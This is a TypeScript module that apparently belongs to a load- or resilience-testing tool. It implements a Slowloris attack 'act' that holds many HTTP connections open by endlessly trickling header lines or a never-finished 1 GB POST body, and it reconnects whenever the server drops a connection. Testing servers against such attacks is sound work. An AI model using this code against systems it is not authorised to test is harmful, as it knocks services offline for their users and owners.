import type { Socket } from 'node:net';
import type { z } from 'zod';
import type { StartAct } from '../act.ts';
import { createExtraConnections } from '../extra-connections.ts';
import type { slowLorisDefinition } from './definition.ts';

export type SlowLorisParameters = z.output<(typeof slowLorisDefinition)['parameters']>;

/** A connection that was closed comes again after this: a server that is away is not hammered. */
const AGAIN_MS = 200;
const BODY_BYTES = 1_000_000_000;

export const actSlowLoris: StartAct<SlowLorisParameters> = ({ parameters, random, hooks: { traffic } }) => {
  let current = parameters;
  let bytes = 0;
  let closedByServer = 0;
  let stopped = false;
  const extra = createExtraConnections(traffic);
  const held = new Map<Socket, NodeJS.Timeout>();
  let again: NodeJS.Timeout | undefined;

  /** The next bytes of a request that has no end. */
  function* text(): Generator<string> {
    const { part, path } = current;
    if (part === 'head') {
      yield* `GET ${path} HTTP/1.1\r\nHost: slow\r\n`;
      for (;;) yield* 'X-Slow: 1\r\n';
    }
    yield `POST ${path} HTTP/1.1\r\nHost: slow\r\nContent-Length: ${BODY_BYTES}\r\n\r\n`;
    for (;;) yield 'x';
  }

  function begin(): boolean {
    const socket = extra.open();
    if (!socket) return false;
    const request = text();
    const send = (): void => {
      const { value } = request.next();
      bytes += String(value).length;
      socket.write(String(value));
    };
    socket.once('connect', send);
    // Each at a time of its own, so that they do not all send in one moment.
    const timer = setTimeout(() => {
      if (!socket.connecting) send();
      held.set(socket, setInterval(send, current.byteEveryMs));
    }, random() * current.byteEveryMs);
    held.set(socket, timer);
    socket.resume();
    socket.once('close', () => {
      clearInterval(held.get(socket));
      held.delete(socket);
      if (stopped) return;
      closedByServer += 1;
      clearTimeout(again);
      again = setTimeout(fill, AGAIN_MS);
    });
    return true;
  }

  function fill(): void {
    const wanted = Math.round(current.connections);
    for (const socket of [...held.keys()].slice(wanted)) end(socket);
    while (!stopped && held.size < wanted) if (!begin()) return;
  }

  function end(socket: Socket): void {
    clearInterval(held.get(socket));
    held.delete(socket);
    socket.removeAllListeners('close');
    socket.destroy();
  }

  fill();
  const open = (): number => [...held.keys()].filter(({ connecting }) => !connecting).length;
  return {
    update(changed) {
      const same = changed.byteEveryMs === current.byteEveryMs && changed.part === current.part;
      current = changed;
      if (!same) for (const socket of [...held.keys()]) end(socket);
      fill();
    },
    measured: () => ({ open: open(), bytes, closedByServer }),
    async stop() {
      stopped = true;
      clearTimeout(again);
      for (const timer of held.values()) clearInterval(timer);
      await extra.close();
    },
  };
};
